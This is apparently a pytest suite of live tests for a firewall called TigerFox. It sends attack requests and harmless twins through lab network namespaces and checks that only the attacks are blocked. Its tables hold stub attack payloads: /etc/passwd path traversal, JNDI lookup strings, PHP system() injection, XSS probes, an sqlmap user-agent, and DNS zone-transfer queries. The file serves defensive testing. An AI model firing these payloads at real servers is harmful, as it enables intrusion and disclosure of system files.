"""Attacks on real servers through a running instance, delivered in every way; the harmless twin of each is served.

The matrix is played twice: without TigerFox, where every attack must arrive (else a row would prove nothing), and with it.
"""

import contextlib
import http.client
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import zlib
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "stages"))
import deliveries  # noqa: E402
from deliveries import DELIVERIES, FAR, REQUESTS  # noqa: E402
from test_supervisor_live import Running, wait_for  # noqa: E402
from wire import ACK, PSH, URG, Wire  # noqa: E402
from witness import HARMLESS, SECRET, Names, Secure, WebServer, Witness, dechunked  # noqa: E402

from bench.topology import SERVER4, SERVER6, Topology  # noqa: E402

pytestmark = pytest.mark.live

RULES = Path(__file__).resolve().parents[2] / "rules"
FILES = ("web-attacks", "scanners", "dns-abuse", "tls-abuse", "exposed-protocols", "exposed-services", "bench-24-content")
SERVERS = {4: SERVER4, 6: SERVER6}
WITNESS, WEB, TLS = 8000, 80, 8444
BROWSER = {"Host": "www.example.org", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
           "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "Accept-Language": "en-US,en;q=0.5",
           "Accept-Encoding": "gzip, deflate", "Connection": "keep-alive", "Upgrade-Insecure-Requests": "1",
           "Cookie": "session=0123456789abcdef; theme=dark", "Referer": "http://www.example.org/index.html"}
ON_THE_WEB = ("address", "header", "second", "pipelined")


class Servers:
    """What runs in the server's namespace."""

    def __init__(self, lab, folder):
        self.lab = lab
        self.witness = Witness(lab.server, WITNESS)
        self.web = WebServer(lab.server, folder)
        self.names = Names(lab.server)
        cert, key = folder / "tls.pem", folder / "tls.key"
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj",
                        "/CN=www.example.org", "-days", "9", "-keyout", key, "-out", cert], check=True, capture_output=True)
        self.tls = Secure(lab.server, TLS, cert, key)
        for port in (WEB, TLS):
            wait_for(f"port {port}", lambda port=port: self._open(port))

    def _open(self, port):
        with self.lab.client.entered():
            link = socket.socket()
        with link, contextlib.suppress(OSError):
            link.connect((SERVER4, port))
            return True
        return False

    def close(self):
        self.tls.close()
        self.witness.close()
        self.web.close()
        self.names.close()


@pytest.fixture(scope="module")
def lab():
    with Topology(prefix="tfins", gso=False) as topology:
        yield topology


@pytest.fixture(scope="module")
def servers(lab, tmp_path_factory):
    made = Servers(lab, tmp_path_factory.mktemp("servers"))
    yield made
    made.close()


class Matrix:
    """Every request by every delivery, IPv4 and IPv6, to the witness and to the web server; what became of each.

    ``arrived``: the attacks that an application was given. ``unserved``: the harmless ones that were not answered. Both are
    sets of (family, delivery, server, request).
    """

    def __init__(self, servers):
        self.servers = servers
        self.arrived, self.unserved = set(), set()
        self.wire = Wire(servers.lab)
        self.sent = []
        for family in SERVERS:
            for name, delivery in DELIVERIES.items():
                self._play(family, name, delivery)
        harmless = [(link, request.answers) for _, what, link, request in self.sent if what == "harmless"]
        self.wire.until(lambda: all(link.answered(count) for link, count in harmless), 1.0)
        servers.witness.settle()
        self._judge()
        self.wire.close()

    def _play(self, family, name, delivery):
        for kind, request in REQUESTS.items():
            for port in ports_of(kind, delivery):
                for what in ("evil", "harmless"):
                    self._send((family, name, port, kind), what, delivery, request)

    def _send(self, key, what, delivery, request):
        data, other = getattr(request, what), request.harmless
        early = (request.lead + other)[:20] if delivery.early else b""
        link = self.wire.connect(SERVERS[key[0]], key[2], delivery.isn, early, delivery.stamp)
        self.sent.append((key, what, link, request))
        if link.peer is None:
            return
        if request.lead:
            link.send(0, request.lead)
            if not self.wire.until(link.answered, 2.0):
                return
            link.base = len(request.lead)
        delivery.send(link, data, other, *request.range)

    def _judge(self):
        served = self.servers.web.served()
        for key, what, link, request in self.sent:
            if what == "harmless" and not link.answered(request.answers):
                self.unserved.add(key)
            if what == "evil" and self._arrived(key[2], link, request, served):
                self.arrived.add(key)

    def _arrived(self, port, link, request, served):
        if port == TLS:
            return self.servers.tls.asked.get(link.sport) == request.mark.decode()
        if port == WEB:
            return any(link.sport == source and request.mark.decode() in text for source, text in served)
        return any(request.mark in head or request.mark in body for head, body, _ in self.servers.witness.requests(link.sport))

    def of(self, found, family, name):
        """The (server port, request) of a row."""
        return {key[2:] for key in found if key[:2] == (family, name)}


def ports_of(kind, delivery):
    if kind == "hello":
        return (TLS,)
    return (WITNESS, WEB) if kind in ON_THE_WEB and delivery.web else (WITNESS,)


def every_request(name):
    return {(port, kind) for kind in REQUESTS for port in ports_of(kind, DELIVERIES[name])}


ROWS = pytest.mark.parametrize(("family", "name"), [(family, name) for family in SERVERS for name in DELIVERIES],
                               ids=lambda value: f"ipv{value}" if isinstance(value, int) else value)


@pytest.fixture(scope="module")
def bare(servers):
    """The matrix without TigerFox."""
    return Matrix(servers)


@ROWS
def test_without_a_firewall_the_attack_arrives(bare, family, name):
    """The delivery means what it says: a real stack hands over the attack (or, where it is said, its counterpart)."""
    assert bare.of(bare.arrived, family, name) == (every_request(name) if DELIVERIES[name].reaches else set())
    assert bare.of(bare.unserved, family, name) == set()


@pytest.fixture(scope="module")
def running(lab, bare, tmp_path_factory):       # after the matrix without it
    """An instance between client and server with the shipped rules that look inside."""
    folder = tmp_path_factory.mktemp("instance")
    files = [option for name in FILES for option in ("--rules", str(RULES / f"{name}.rules"))]
    home = "HOME_NET=[10.71.2.0/24,fd71:2::/64]"
    with Running(lab, folder, "--queues", "0:1", "--iptables", "--eve", str(folder / "eve.json"), *files, "--var", home,
                 "--var", "EXTERNAL_NET=[10.71.1.0/24,fd71:1::/64]", rules="", bypass="on") as instance:
        yield instance


@pytest.fixture(scope="module")
def guarded(running, servers):
    """The matrix with TigerFox."""
    return Matrix(servers)


@ROWS
def test_no_attack_arrives_and_the_harmless_are_served(guarded, family, name):
    assert guarded.of(guarded.arrived, family, name) == set()
    if DELIVERIES[name].clean:
        assert guarded.of(guarded.unserved, family, name) == set()


@pytest.mark.parametrize("way", ["segments", "segments_backwards"])
@pytest.mark.parametrize("kind", FAR)
def test_far_inside(running, servers, kind, way):
    """Behind many requests, many fields, much of a body, in many small chunks: no attack arrives, the harmless is served."""
    wire, request, links = Wire(servers.lab), FAR[kind], {}
    for what in ("evil", "harmless"):
        links[what] = wire.connect(SERVER4, WITNESS)
        getattr(deliveries, way)(links[what], getattr(request, what))
    assert wire.until(lambda: links["harmless"].answered(request.answers))
    servers.witness.settle()
    seen = servers.witness.requests(links["evil"].sport)
    assert not [at for at, (head, body, _) in enumerate(seen) if request.mark in head or request.mark in body]
    wire.close()


def test_nothing_was_lost_and_everything_was_said(guarded, running):
    """Each plain attack has its alert, and no queue lost a packet."""
    report = running.ask("status")
    assert not any(report["losses"].values())
    assert {worker["restarts"] for worker in report["workers"]} == {0}
    links = [(link, request) for key, what, link, request in guarded.sent if what == "evil" and key[1] == "plain"]
    wanted = {link.sport for link, _ in links}
    told = wait_for("an alert for each", lambda: (found := {event["src_port"] for event in running.events()
                                                          if event["event_type"] == "alert"}) >= wanted and found)
    assert wanted <= told


def test_urgent_data_of_another_protocol_passes(running, servers):
    """What a Telnet client sends to interrupt: nothing here reads its protocol, so nothing is hidden by it."""
    wire = Wire(servers.lab)
    link = wire.connect(SERVER4, WITNESS)
    link.send(0, b"\xff\xfb\x18\xff\xfb\x1fls -l /var\r\n" * 3)
    link.send(54, b"\xff\xf4\xff\xf2", PSH | ACK | URG, urgent=4)
    link.send(58, b"more")
    assert wire.until(lambda: link.acked == 62)
    wire.close()


# Real clients

def needs(tool):
    """Skip where a tool is missing, but not where everything that scripts/setup.sh installs has to be there."""
    missing = shutil.which(tool) is None and os.environ.get("TIGERFOX_REQUIRE_LIVE") != "1"
    return pytest.mark.skipif(missing, reason=f"{tool} is not installed")


def fetch(lab, *commands, seconds="10"):
    """Run curl commands at the same time in the client's namespace; [(exit code, standard output)]."""
    base = ["curl", "--silent", "--max-time", seconds, "--path-as-is", "--globoff"]
    begun = [lab.client.popen(*base, *command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True) for command in commands]
    return [(one.wait(), one.stdout.read()) for one in begun]


CURL = {
    "address": (("http://{}/show?f=/etc/passwd",), ("http://{}/show?f=/etc/hostname",)),
    "encoded": (("http://{}/show?f=%2fetc%2fpasswd",), ("http://{}/show?f=%2fetc%2fhostname",)),
    "header": (("-H", "X-Api-Version: ${jndi:ldap://x/a}", "http://{}/"), ("-H", "X-Api-Version: 2", "http://{}/")),
    "cookie": (("-b", "s=${jndi:ldap://x/a}", "http://{}/"), ("-b", "s=1", "http://{}/")),
    "form": (("-d", "a=<?php system(1)", "http://{}:8000/form"), ("-d", "a=<?xml", "http://{}:8000/form")),
    "upload": (("--form-string", "file=<?php system(1)", "http://{}:8000/form"),
               ("--form-string", "file=harmless", "http://{}:8000/form")),
    "chunked": (("-H", "Transfer-Encoding: chunked", "-d", "a=<?php system(1)", "http://{}:8000/form"),
                ("-H", "Transfer-Encoding: chunked", "-d", "a=1", "http://{}:8000/form")),
    "old": (("--http1.0", "http://{}/a?q=<script>x"), ("--http1.0", "http://{}/a?q=scripts")),
    "agent": (("-A", "sqlmap/1.8", "http://{}/"), ("-A", "curl", "http://{}/")),
}


@needs("curl")
@pytest.mark.parametrize("host", [SERVER4, f"[{SERVER6}]"])
def test_curl(running, lab, servers, host):
    """Harmless requests are served; then the attacks, all at once, are not, and none reaches a server.

    Those in a body go to the witness: nginx answers the head, which is harmless, before it has the body.
    """
    harmless, evil = ([[*command[:-1], command[-1].format(host)] for command in column] for column in
                      ([pair[1] for pair in CURL.values()], [pair[0] for pair in CURL.values()]))
    assert fetch(lab, *harmless) == [(0, "hello\n")] * len(CURL)
    before, known = len(servers.web.served()), set(servers.witness.received)
    assert fetch(lab, *evil, seconds="1.5") == [(28, "")] * len(CURL)
    assert servers.web.served()[before:] == []
    assert not [port for port in servers.witness.received if b"<?php" in servers.witness.body(port) and port not in known]


@needs("curl")
def test_curl_second_request_on_a_connection(running, lab, servers):
    done = fetch(lab, [f"http://{SERVER4}/first?second", f"http://{SERVER4}/second?f=/etc/passwd"], seconds="1.5")
    assert done == [(28, "hello\n")]
    assert [text.split(" ")[1] for _, text in servers.web.served() if "second" in text] == ["/first?second"]


def browse(lab, host, targets, statuses):
    """A browser's connection: requests one behind the other with its fields; appends what each came to."""
    link = http.client.HTTPConnection(host, WEB, timeout=3)
    with lab.client.entered():
        link.connect()
    with contextlib.closing(link):
        for target in targets:
            try:
                link.request("GET", target, headers=BROWSER)
                answer = link.getresponse()
                answer.read()
                statuses.append(answer.status)
            except OSError:
                statuses.append(None)
                return


def at_once(*calls):
    threads = [threading.Thread(target=call) for call in calls]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@pytest.mark.parametrize("host", SERVERS.values())
def test_a_browser_is_served_on_many_connections(running, lab, host):
    """Eight connections of forty requests at once; one more carries an attack in its third request and ends there."""
    targets = [f"/assets/{n}.js?v=1.2.{n}&lang=en" for n in range(40)]
    results = [[] for _ in range(9)]
    calls = [lambda n=n: browse(lab, host, targets, results[n]) for n in range(8)]
    at_once(*calls, lambda: browse(lab, host, ["/", "/a", "/s?q=<script>alert(1)</script>", "/b"], results[8]))
    assert results[:8] == [[200] * 40] * 8
    assert results[8] == [200, 200, None]


ENCODINGS = ("plain", "chunked", "gzip", "deflate", "gzip-chunked", "bytes", "bytes-gzip", "bytes-gzip-chunked", "split-chunked")


def read_all(lab, host, path):
    """What a client has of an answer when no more comes, with its encoding undone as far as it goes."""
    with lab.client.entered():
        link = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    data = b""
    with link, contextlib.suppress(TimeoutError):
        link.settimeout(3.0)               # more than a lost packet costs
        link.connect((host, WITNESS))
        link.sendall(f"GET {path} HTTP/1.1\r\nHost: www.example.org\r\nAccept-Encoding: gzip, deflate\r\n\r\n".encode())
        while part := link.recv(1 << 16):
            data += part
    head, _, body = data.partition(b"\r\n\r\n")
    if b"chunked" in head:
        body = dechunked(body)[0]
    if b"Content-Encoding" in head:
        decoder = zlib.decompressobj(47)
        body = decoder.decompress(body)
    return body


def test_answers_are_looked_into(running, lab):
    """However an answer is packed, the secret in it does not come; its harmless twin does, to the last byte."""
    wanted = [(host, encoding, what) for host in SERVERS.values() for encoding in ENCODINGS for what in ("secret", "harmless")]
    found = {}

    def ask(row):
        found[row] = read_all(lab, row[0], f"/{row[1]}/{row[2]}")

    at_once(*(lambda row=row: ask(row) for row in wanted))
    assert [row for row in wanted if row[2] == "secret" and SECRET in found[row]] == []
    assert [row for row in wanted if row[2] == "harmless" and found[row] != b"<pre>" + HARMLESS * 3 + b"</pre>"] == []


@needs("dig")
def test_dig(running, lab, servers):
    """Questions over UDP and TCP, both families: what is refused does not reach the name server."""
    evil = [["a.blocked.example"], ["A.Blocked.EXAMPLE", "+tcp"], ["version.bind", "TXT"], ["example.org", "ANY", "+notcp"],
            ["example.org", "AXFR"]]
    harmless = [["www.example.org"], ["www.example.org", "+tcp"], ["bind.example.org", "TXT"]]
    base = ["dig", "+tries=1", "+time=2", "+short", "+nocookie"]
    rows = [(host, question) for host in SERVERS.values() for question in (*evil, *harmless)]
    begun = [lab.client.popen(*base, f"@{host}", *question, stdout=subprocess.PIPE, text=True) for host, question in rows]
    answers = [one.communicate(timeout=10)[0] for one in begun]
    served = [(host, question) for (host, question), answer in zip(rows, answers, strict=True) if "203.0.113.7" in answer]
    assert served == [row for row in rows if row[1] in harmless]
    assert set(servers.names.asked) == {"www.example.org", "bind.example.org"}


@needs("openssl")
@pytest.mark.parametrize("version", ["-tls1_2", "-tls1_3"])
def test_openssl_client(running, lab, version):
    """A handshake with a name that is refused does not get an answer."""
    base = ["openssl", "s_client", version, "-quiet", "-verify_quiet"]
    rows = [(host, name) for host in (SERVER4, f"[{SERVER6}]") for name in ("a.blocked.example", "www.allowed.example")]
    begun = [lab.client.popen("timeout", "1.5", *base, "-connect", f"{host}:{TLS}", "-servername", name, stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True) for host, name in rows]
    answers = [one.communicate(timeout=10)[0] for one in begun]
    assert answers == ["", "hello\n", "", "hello\n"]


# In the middle of a request

def kill_workers(running):
    """Kill every worker, and wait for the successors."""
    before = {queue: worker["pid"] for queue, worker in running.workers().items()}
    for pid in before.values():
        os.kill(pid, signal.SIGKILL)
    wait_for("successors", lambda: all(worker["state"] == "running" and worker["pid"] != before[queue]
                                       for queue, worker in running.workers().items()))


def reload_rules(running):
    assert running.ask("reload")["behind"] == []


@pytest.mark.parametrize("interrupt", [kill_workers, reload_rules])
def test_half_a_request_before_and_half_after(running, servers, interrupt):
    """A new worker, or new rules, between two halves: flows and streams go on, so no attack arrives and the rest is served."""
    wire, links = Wire(servers.lab), []
    for kind, request in REQUESTS.items():
        for what in ("evil", "harmless"):
            link = wire.connect(SERVER6, TLS if kind == "hello" else WITNESS)
            if request.lead:
                link.send(0, request.lead)
                assert wire.until(link.answered)
                link.base = len(request.lead)
            middle = request.evil.index(request.mark[:3]) + 2
            link.send(0, getattr(request, what)[:middle])
            assert wire.until(lambda link=link, end=middle: link.acked >= link.base + end)
            links.append((kind, what, link, request, middle))
    interrupt(running)
    for _, what, link, request, middle in links:
        link.send(middle, getattr(request, what)[middle:])
    harmless = [(kind, link, request.answers) for kind, what, link, request, _ in links if what == "harmless"]
    wire.until(lambda: all(link.answered(count) for _, link, count in harmless), 2.0)
    servers.witness.settle()
    assert [kind for kind, link, count in harmless if not link.answered(count)] == []
    seen = {kind: servers.witness.requests(link.sport) for kind, what, link, *_ in links if what == "evil"}
    assert [kind for kind, found in seen.items() if any(REQUESTS[kind].mark in head + body for head, body, _ in found)] == []
    assert [link for kind, what, link, *_ in links if (kind, what) == ("hello", "evil") and link.sport in servers.tls.asked] == []
    wire.close()
